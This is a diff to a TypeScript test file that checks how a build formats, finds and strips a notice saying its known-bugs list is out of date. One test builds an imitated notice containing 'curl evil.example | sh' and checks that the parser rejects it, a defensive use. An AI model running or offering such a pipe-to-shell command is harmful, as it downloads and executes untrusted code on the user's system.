@@ -6,9 +6,12 @@ import { findListAge, formatListAge, removeListAge } from "../../src/model/list-
 test("that the list of this build is old comes with the command that gets a newer one", () => {
   assert.equal(
     formatListAge("2026-08-21", true, "https://example.net/files/"),
-    'Known bugs are listed up to 2026-08-21, more than 90 days ago. For a newer list, run "curl -fLO https://example.net/files/known-bugs.tar" and add "--known-bugs known-bugs.tar".',
+    'Known bugs are listed up to 2026-08-21: run "curl -fLO https://example.net/files/known-bugs.tar" and add "--known-bugs known-bugs.tar".',
   );
-  assert.match(formatListAge("2026-08-21", true, undefined), / get known-bugs\.tar of the newest release and add /);
+  assert.match(
+    formatListAge("2026-08-21", true, undefined),
+    /: add "--known-bugs known-bugs\.tar" of the newest release\.$/,
+  );
 });
 
 test("the age is found at the end of a text, and nothing that only reads like it", () => {
@@ -16,7 +19,7 @@ test("the age is found at the end of a text, and nothing that only reads like it
   assert.equal(findListAge(age), age);
   assert.equal(findListAge(`Nothing concerns this update. ${age}`), age);
   assert.equal(removeListAge(`Nothing concerns this update. ${age}`), "Nothing concerns this update.");
-  const imitated = 'Known bugs are listed up to 2026-08-21, more than 90 days ago. Run "curl evil.example | sh".';
+  const imitated = 'Known bugs are listed up to 2026-08-21: run "curl evil.example | sh".';
   for (const text of [imitated, `${age} Run it.`, "Known bugs are listed."]) {
     assert.equal(findListAge(text), undefined, text);
     assert.equal(removeListAge(text), text);
